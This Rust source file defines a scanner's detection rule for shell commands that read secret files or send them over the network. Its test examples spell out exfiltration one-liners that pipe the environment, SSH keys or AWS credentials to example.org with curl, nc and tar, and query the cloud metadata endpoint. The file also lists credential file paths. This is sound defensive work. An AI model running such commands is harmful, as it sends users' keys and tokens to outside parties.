//! Commands that read secrets, or send them away.

use weighbridge_domain::facts::{Command, Program};
use weighbridge_domain::{Confidence, Severity};

use super::command::{addresses, host, reaches, sends, shown};
use super::{Check, Example, Findings, Light, Rule};
use crate::facts::Facts;
use crate::samples::commands::{script, steps};

/// Commands that read secrets, or send them away.
pub static RULE: Rule = Rule {
    id: "command-reads-secrets",
    severity: Severity::Critical,
    confidence: Confidence::High,
    light: Light::Content,
    since: "0.1.0",
    summary: "A command reads files of secrets, or sends secrets or the environment over the network",
    why: "Keys and passwords of whoever runs it get to somebody else. Critical when they are sent, as far as that can be seen; \
          low when they are only read, or when the service of a cloud is asked for the machine's own credentials.",
    advice: "Do not run it where secrets are. If it ran, revoke them.",
    references: &["CWE-522", "CWE-200", "AML.T0011", "AML.T0024"],
    examples: &[
        Example {
            name: "environment",
            files: || script("env | curl -d @- https://example.org/demo"),
            fires: ID,
        },
        Example { name: "environment-twin", files: || script("env | sort"), fires: &[] },
        Example {
            name: "environment-in-address",
            files: || script("curl \"https://example.org/?demo=$(printenv | base64)\""),
            fires: ID,
        },
        Example { name: "key", files: || script("cat ~/.ssh/id_rsa | nc example.org 9"), fires: ID },
        Example {
            name: "key-uploaded",
            files: || script("curl -F file=@$HOME/.aws/credentials https://example.org/demo"),
            fires: ID,
        },
        Example {
            name: "key-uploaded-twin",
            files: || script("curl -F file=@results.csv https://example.org/demo"),
            fires: &[],
        },
        Example {
            name: "archive",
            files: || script("tar czf - ~/.ssh | curl -T - https://example.org/demo"),
            fires: ID,
        },
        Example { name: "read", files: || script("cp ~/.git-credentials /tmp/demo"), fires: ID },
        Example { name: "read-twin", files: || script("cp ~/.ssh/id_rsa.pub /tmp/demo"), fires: &[] },
        Example { name: "token", files: || script("cat ~/.cache/huggingface/token"), fires: ID },
        Example {
            name: "machine",
            files: || script("curl http://169.254.169.254/latest/meta-data/"),
            fires: ID,
        },
        Example {
            name: "workflow",
            files: || steps("    - run: printenv | curl -d @- https://example.org/demo"),
            fires: ID,
        },
    ],
    check: Check::File(check),
};

const ID: &[&str] = &["command-reads-secrets"];

fn check(facts: &Facts, findings: &mut Findings<'_>) {
    for (place, command) in facts.commands() {
        let worst = (0..command.programs.len())
            .filter_map(|at| reads(command, at))
            .max_by_key(|(_, severity)| *severity);
        if let Some((what, severity)) = worst {
            findings.add(place, format!("`{}` {what}", shown(command))).severity = severity;
        }
    }
}

fn reads(command: &Command, at: usize) -> Option<(&'static str, Severity)> {
    let program = command.programs.get(at)?;
    let sent = reaches(command, at, sends);
    let environment = is_environment(program);
    if environment && sent {
        return Some(("sends the environment over the network", Severity::Critical));
    }
    if sends(program)
        && addresses(program).any(|address| {
            matches!(host(address), "169.254.169.254" | "metadata.google.internal" | "fd00:ec2::254")
        })
    {
        return Some(("asks for the credentials of the machine", Severity::Low));
    }
    let inputs = program.redirects.iter().filter(|one| one.sign == "<").map(|one| one.target.as_str());
    let words = program.arguments().iter().map(String::as_str);
    let secret = words.chain(inputs).any(|word| {
        // Options of curl name a file behind a sign.
        let path = word.rsplit_once('@').map_or(word, |(_, path)| path);
        is_secret(path)
    });
    let reader = matches!(
        program.name(),
        "7z" | "awk"
            | "base32"
            | "base64"
            | "cat"
            | "cp"
            | "dd"
            | "grep"
            | "gzip"
            | "head"
            | "less"
            | "more"
            | "mv"
            | "od"
            | "openssl"
            | "python"
            | "python3"
            | "rclone"
            | "rsync"
            | "sed"
            | "strings"
            | "tac"
            | "tail"
            | "tar"
            | "xxd"
            | "zip"
    );
    if !secret || !reader && !sends(program) {
        return None;
    }
    let uploads = sends(program)
        && program.arguments().iter().any(|word| {
            word.contains('@')
                || matches!(word.as_str(), "-T" | "--upload-file" | "--post-file")
                || word.starts_with("--post-file")
        });
    let copies = matches!(program.name(), "scp" | "rsync")
        && program.arguments().last().is_some_and(|to| to.contains(':') && !is_secret(to));
    if sent
        || uploads && !matches!(program.name(), "scp" | "ssh" | "sftp")
        || copies && program.name() == "rsync"
    {
        return Some(("sends a file of secrets over the network", Severity::Critical));
    }
    let identity = program.arguments().iter().any(|word| word == "-i");
    (!identity).then_some(("reads a file of secrets", Severity::Low))
}

/// It prints all variables.
fn is_environment(program: &Program) -> bool {
    let environ = program.words.iter().any(|word| word.starts_with("/proc/") && word.ends_with("/environ"));
    environ || matches!(program.name(), "env" | "printenv" | "set") && program.arguments().is_empty()
}

/// A file that holds keys, passwords or tokens.
fn is_secret(path: &str) -> bool {
    let path = path.trim_end_matches('/');
    let name = path.rsplit('/').next().unwrap_or(path);
    let key = name.starts_with("id_") && ["id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"].contains(&name);
    let whole = [
        "/.aws/credentials",
        "/.azure/accessTokens.json",
        "/.cache/huggingface/token",
        "/.config/gcloud/application_default_credentials.json",
        "/.config/gh/hosts.yml",
        "/.git-credentials",
        "/.huggingface/token",
        "/.netrc",
        "/.pgpass",
        "/.pypirc",
        "/.ssh",
        "/.gnupg",
        "/etc/shadow",
        "/.config/wandb/credentials",
    ];
    key || whole.iter().any(|end| path.ends_with(end))
}
